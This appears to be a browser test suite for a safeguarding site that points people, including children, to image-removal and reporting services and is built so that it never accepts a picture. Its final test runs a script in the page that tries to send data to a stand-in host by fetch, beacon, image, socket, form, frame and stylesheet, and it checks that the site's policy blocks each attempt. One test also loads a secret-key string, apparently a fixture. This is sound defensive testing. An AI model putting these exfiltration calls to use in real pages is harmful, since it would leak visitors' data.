// SPDX-License-Identifier: Apache-2.0
// The routes without pictures, and attempts to get past them: no file input, no worker, nothing that takes a file or sends
// anything, whatever is pressed, dropped, pasted or left open. Words are typed for letters alone.
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { answer, begin, look_inside, press, survey } from "./browser.mjs";
import { hold_to_contract, one_visitor } from "./fixture.mjs";
import { bridge } from "./paths.mjs";
import { adult, age_question, assert_no_picture_gets_in, back_to_age, choose, is_titled, no_worker_runs, to_age, to_pictures } from "./ways.mjs";

const stand = one_visitor();
const { in_a_visit } = stand;

async function assert_no_way_in(visitor) {
  await no_worker_runs(visitor);
  assert.equal(await look_inside(visitor, "document.querySelectorAll('input[type=file], textarea, input[type=text], input[type=password], img').length"), 0);
  await assert_no_picture_gets_in(visitor);
  assert.equal(visitor.page.url(), `${visitor.origin}/`);
}

const report_remove = "https://www.childline.org.uk/remove";
const take_it_down = "https://takeitdown.ncmec.org/";
const ceop = "https://www.ceop.police.uk/Safety-Centre/";
const iwf = "https://report.iwf.org.uk/";
const childline = "tel:08001111";
const revenge_porn_helpline = "tel:03456000459";

const write_down = "Write down what happened";
const helping = "I am helping someone else";
/** Name, answer, answers after it, heading, services in the order shown, and who to talk to beside the help on every screen. */
const routes = [
  ["under-18-now", "I am under 18 now", [], "There is help made for you", [report_remove, take_it_down, ceop], childline],
  ["pictured-under-18", "No, someone was under 18", [], "There is a safe way for this picture", [report_remove, take_it_down, iwf, ceop], childline],
  ["not-sure", "I am not sure", [], "Not being sure is all right", [report_remove, take_it_down, iwf, ceop], childline],
  ["helping-a-child", helping, ["Someone under 18, or the picture is from when they were under 18"], "How to help someone under 18", [report_remove, take_it_down, ceop], childline],
  ["helping-an-adult", helping, ["An adult, and everyone in the picture was 18 or over"], "How to help an adult", [], revenge_porn_helpline],
  ["helping-age-unknown", helping, ["I am not sure how old they were"], "How to help someone under 18", [report_remove, take_it_down, ceop], childline],
];

describe("a route without pictures", () => {
  for (const [name, age, more, expected, services, person] of routes)
    it(
      `${name}: leads to its services, has no file input, no worker, and a dropped or pasted file does nothing`,
      in_a_visit(async (visitor) => {
        await to_age(visitor);
        await answer(visitor, age);
        for (const text of more) await answer(visitor, text);
        await is_titled(visitor, expected);
        await visitor.page.getByRole("heading", { name: "What to do now", exact: true }).waitFor();
        assert.deepEqual(await look_inside(visitor, "[...document.querySelectorAll('main .hf-card a.govuk-button')].map((link) => link.href)"), services);
        assert.notEqual(await look_inside(visitor, `document.querySelectorAll('main a[href="${person}"]').length`), 0);
        await assert_no_way_in(visitor);
        await survey(visitor, name);

        // Back shows the locked answer, and no sequence of going back and forth opens the question again.
        for (let i = 0; i < 4; i += 1) {
          const back = visitor.page.getByRole("button", { name: "Back", exact: true });
          if (await back.isVisible()) await back.click();
          assert.equal(await visitor.page.getByRole("radio", { name: adult }).count(), 0);
          assert.equal(await visitor.page.getByText("I have been here before").count(), 0);
          await assert_no_way_in(visitor);
        }
      }),
    );

  it(
    "shows who is helped, and the locked answer, to everybody",
    in_a_visit(async (visitor) => {
      await to_age(visitor);
      await answer(visitor, helping);
      await is_titled(visitor, "Who are you helping?");
      await survey(visitor, "who-is-helped");
      await press(visitor, "Back");
      await is_titled(visitor, "Your answer to this question");
      await survey(visitor, "locked");
    }),
  );

  it(
    "tells who to talk to when the answer was a mistake, and asks again on a new visit only",
    in_a_visit(async (visitor) => {
      await to_age(visitor);
      await answer(visitor, "I am not sure");
      await is_titled(visitor, "Not being sure is all right");
      await press(visitor, "Back");
      await is_titled(visitor, "Your answer to this question");
      await visitor.page.getByText("If you pressed the wrong answer").waitFor();
      await visitor.page.reload();
      await is_titled(visitor, "You are not alone with this");
      await to_age(visitor);
      assert.equal(await visitor.page.getByRole("radio", { checked: true }).count(), 0);
    }),
  );
});

describe("attempts to get past the answer", () => {
  it(
    "pictures that were chosen before are gone, also when the picture is still being read",
    in_a_visit(async (visitor, page) => {
      await to_pictures(visitor);
      await choose(visitor, bridge);
      await back_to_age(visitor);
      await answer(visitor, "No, someone was under 18");
      await is_titled(visitor, "There is a safe way for this picture");
      await assert_no_way_in(visitor);
    }),
  );

  it(
    "a file dialog that was opened before the answer brings nothing in after it",
    in_a_visit(async (visitor, page) => {
      await to_pictures(visitor);
      const [dialog] = await Promise.all([page.waitForEvent("filechooser"), press(visitor, "Choose pictures")]);
      await back_to_age(visitor);
      await answer(visitor, "I am under 18 now");
      await is_titled(visitor, "There is help made for you");
      await dialog.setFiles(bridge);
      await assert_no_way_in(visitor);
    }),
  );

  it(
    "a recovery file dialog that was opened before the answer opens no case after it",
    in_a_visit(async (visitor, page) => {
      await press(visitor, "I have been here before");
      await is_titled(visitor, "Open your case");
      const [dialog] = await Promise.all([page.waitForEvent("filechooser"), press(visitor, "Choose the file")]);
      await press(visitor, "Back");
      await is_titled(visitor, "You are not alone with this");
      await to_age(visitor);
      await answer(visitor, "I am not sure");
      await is_titled(visitor, "Not being sure is all right");
      await dialog.setFiles({ name: "notes.txt", mimeType: "text/plain", buffer: Buffer.from("AGE-SECRET-KEY-1HHT2M9RVJZZJ9G4ATSSMH4PG5G2HML6WMS8DDQFR6V4807TPSEJSPA4M3T") });
      await assert_no_way_in(visitor);
      assert.deepEqual(visitor.requests.filter((request) => request.url().includes("/v1/case")), []);
    }),
  );

  it(
    "a page that the browser kept and brings back is blank first and then a new visit",
    in_a_visit(async (visitor) => {
      await to_age(visitor);
      await answer(visitor, "I am under 18 now");
      await is_titled(visitor, "There is help made for you");
      await look_inside(visitor, "dispatchEvent(new PageTransitionEvent('pagehide', { persisted: true })); 0");
      assert.equal(await look_inside(visitor, "document.getElementById('page').childElementCount"), 0);
      await look_inside(visitor, "dispatchEvent(new PageTransitionEvent('pageshow', { persisted: true })); 0");
      await is_titled(visitor, "You are not alone with this");
      await no_worker_runs(visitor);
      assert.equal(await look_inside(visitor, "document.querySelectorAll('input[type=file]').length"), 0);
    }),
  );

  it(
    "another tab neither opens the locked one nor learns of it",
    in_a_visit(async (visitor) => {
      await to_age(visitor);
      await answer(visitor, "I am not sure");
      await is_titled(visitor, "Not being sure is all right");
      const other = { ...visitor, page: await visitor.context.newPage() };
      await other.page.goto(visitor.origin);
      await to_pictures(other);
      assert.equal(await visitor.page.getByRole("heading", { level: 1 }).innerText(), "Not being sure is all right");
      await assert_no_way_in(visitor);
      await hold_to_contract(visitor);
      await other.page.close();
      await assert_no_way_in(visitor);
    }),
  );

  it(
    "coming back online starts nothing that could take a picture",
    in_a_visit(async (visitor) => {
      await to_age(visitor);
      await answer(visitor, "I am under 18 now");
      await is_titled(visitor, "There is help made for you");
      await Promise.all([
        visitor.page.waitForResponse(`${visitor.origin}/v1/service`),
        look_inside(visitor, "dispatchEvent(new Event('offline')); dispatchEvent(new Event('online')); 0"),
      ]);
      await assert_no_way_in(visitor);
    }),
  );
});

describe("whatever is pressed", () => {
  /** Presses what can be pressed, in an order drawn from `seed`, a few hundred times; tells the first time that there is a way in. */
  const press_about = (seed) => `(async () => {
    let state = ${seed};
    const draw = (count) => ((state = (Math.imul(state, 1664525) + 1013904223) >>> 0) >>> 8) % count;
    const pressed = [];
    for (let i = 0; i < 300; i += 1) {
      const all = [...document.querySelectorAll("button:not(:disabled), input, summary, label, select")].filter((e) => e.checkVisibility());
      const one = all[draw(all.length)];
      pressed.push(one.textContent.slice(0, 40));
      one.click();
      await new Promise((done) => setTimeout(done, 0));
      if (document.querySelector("input[type=file], img, .hf-drop, [contenteditable]") !== null) return pressed.slice(-6);
      if ([...document.querySelectorAll("textarea, input[type=text], input[type=password]")].some((e) => e.closest(".hf-letters") === null)) return pressed.slice(-6);
    }
    return null;
  })()`;
  for (const [index, [name, age]] of routes.slice(0, 4).entries())
    it(
      `${name}: no sequence of presses leads to a way in`,
      in_a_visit(async (visitor) => {
        await to_age(visitor);
        await answer(visitor, age);
        await visitor.page.getByRole("radio", { name: adult }).waitFor({ state: "detached" });
        assert.equal(await look_inside(visitor, press_about(index + 1)), null);
        // And from where it is written down what happened, which must not be a way either.
        if ((await visitor.page.getByRole("button", { name: write_down, exact: true }).count()) > 0) await visitor.page.getByRole("button", { name: write_down, exact: true }).first().click();
        assert.equal(await look_inside(visitor, press_about(index + 101)), null);
        await no_worker_runs(visitor);
        assert.deepEqual(visitor.exits, []);
      }),
    );
});

describe("attempts to make the page send something", () => {
  /** Runs in the page as an injected script would; each names what it is and tells whether the policy stopped it. */
  const attempts = `(async () => {
    const stopped = {};
    const refuses = async (name, act) => { try { await act(); stopped[name] = false; } catch { stopped[name] = true; } };
    const violated = (name, act) => new Promise((done) => {
      document.addEventListener("securitypolicyviolation", () => done((stopped[name] = true)), { once: true });
      try { act(); } catch { done((stopped[name] = true)); }
    });
    const elsewhere = "https://elsewhere.example/collect";
    await refuses("fetch", () => fetch(elsewhere, { method: "POST", mode: "no-cors", body: "x" }));
    await violated("beacon", () => navigator.sendBeacon(elsewhere, "x"));
    await violated("image", () => { new Image().src = elsewhere; });
    await violated("socket", () => new WebSocket("wss://elsewhere.example"));
    await violated("events", () => new EventSource(elsewhere));
    await violated("form", () => { const form = document.createElement("form"); form.action = elsewhere; form.method = "post"; document.body.append(form); form.submit(); });
    await violated("frame", () => { const frame = document.createElement("iframe"); frame.src = elsewhere; document.body.append(frame); });
    await violated("style", () => { const link = document.createElement("link"); link.rel = "stylesheet"; link.href = elsewhere; document.head.append(link); });
    await violated("base", () => { const base = document.createElement("base"); base.href = elsewhere; document.head.append(base); });
    await refuses("script address", () => { document.createElement("script").src = elsewhere; });
    await refuses("markup", () => { document.body.insertAdjacentHTML("beforeend", "<b>x</b>"); });
    await refuses("worker", () => new Worker("/assets/any.js"));
    await refuses("worker of one's own", () => new Worker(URL.createObjectURL(new Blob(["0"], { type: "text/javascript" }))));
    await refuses("another policy", () => trustedTypes.createPolicy("other", {}));
    await refuses("the policy again", () => trustedTypes.createPolicy("holdfast", {}));
    return stopped;
  })()`;

  it("its policy stops every one, even from inside", async () => {
    await begin(stand.visitor);
    const { visitor } = stand;
    const stopped = await look_inside(visitor, attempts);
    assert.deepEqual(Object.entries(stopped).filter(([, was_stopped]) => !was_stopped), []);
    assert.equal(Object.keys(stopped).length, 15);
    assert.deepEqual(visitor.faults.filter((fault) => fault.startsWith("request to somebody else")), []);
  });
});
